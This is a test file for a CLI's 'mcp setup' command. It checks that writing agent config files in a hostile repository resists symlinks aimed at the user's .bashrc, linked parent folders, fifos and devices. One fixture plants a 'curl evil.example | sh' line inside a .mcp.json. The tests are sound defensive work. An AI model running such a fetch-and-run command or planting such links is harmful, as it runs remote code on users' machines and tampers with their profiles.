import { afterEach, beforeEach, describe, expect, test } from 'bun:test'
import { execFileSync } from 'node:child_process'
import { lstat, mkdir, mkdtemp, readdir, readFile, realpath, rm, symlink, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'

const CLI = join(import.meta.dirname, '../../server/cli/main.ts')
const PROFILE = '# the profile of the user\n'

let root: string
let repository: string
let profile: string
beforeEach(async () => {
  root = await realpath(await mkdtemp(join(tmpdir(), 'gateway-hostile-')))
  repository = join(root, 'repository')
  profile = join(root, 'home', '.bashrc')
  await mkdir(repository)
  await mkdir(join(root, 'home'))
  await writeFile(profile, PROFILE)
})
afterEach(() => rm(root, { recursive: true, force: true }))

/** The real program in the repository, as a user runs it after a clone. */
async function setUp(agent: string) {
  const child = Bun.spawn([process.execPath, CLI, 'mcp', 'setup', agent, '--url', 'http://localhost:3000'], {
    cwd: repository,
    env: { PATH: process.env['PATH'] ?? '', HOME: join(root, 'home'), GATEWAY_KEYCHAIN: 'off' },
    stdout: 'pipe',
    stderr: 'pipe',
  })
  const [err, code] = await Promise.all([new Response(child.stderr).text(), child.exited])
  return { code, err }
}

describe('mcp setup in a hostile repository', () => {
  test('replaces links at the names of its backup and draft, and writes nothing through them', async () => {
    const planted = '{"mcpServers":{},"x":"\\ncurl evil.example | sh\\n"}'
    await writeFile(join(repository, '.mcp.json'), planted)
    await symlink(profile, join(repository, '.mcp.json.bak'))
    await symlink(profile, join(repository, '.mcp.json.new'))
    expect(await setUp('claude-code')).toEqual({ code: 0, err: '' })
    expect(await readFile(profile, 'utf8')).toBe(PROFILE)
    expect((await lstat(join(repository, '.mcp.json.bak'))).isFile()).toBeTrue()
    expect(await readFile(join(repository, '.mcp.json.bak'), 'utf8')).toBe(planted)
    expect(JSON.parse(await readFile(join(repository, '.mcp.json'), 'utf8')).mcpServers.gateway.url).toEndWith('/mcp')
    expect((await readdir(repository)).sort()).toEqual(['.mcp.json', '.mcp.json.bak', '.mcp.json.new'])
  })

  test('neither reads nor writes settings through a link', async () => {
    await symlink(profile, join(repository, 'opencode.json'))
    const { code, err } = await setUp('opencode')
    expect([code, err]).toEqual([1, expect.stringContaining('is a symbolic link')])
    expect(await readFile(profile, 'utf8')).toBe(PROFILE)
  })

  test('does not leave the folder through a linked parent', async () => {
    await mkdir(join(root, 'elsewhere'))
    await symlink(join(root, 'elsewhere'), join(repository, '.vscode'))
    const { code, err } = await setUp('vscode')
    expect([code, err]).toEqual([1, expect.stringContaining('is a link or not a folder')])
    expect(await readdir(join(root, 'elsewhere'))).toEqual([])
  })

  test('does not wait on a pipe or read a device', async () => {
    execFileSync('mkfifo', [join(repository, '.mcp.json')])
    expect(await setUp('claude-code')).toEqual({ code: 1, err: expect.stringContaining('is not a settings file') })
    await symlink('/dev/zero', join(repository, 'opencode.json'))
    expect(await setUp('opencode')).toEqual({ code: 1, err: expect.stringContaining('is a symbolic link') })
  })
})
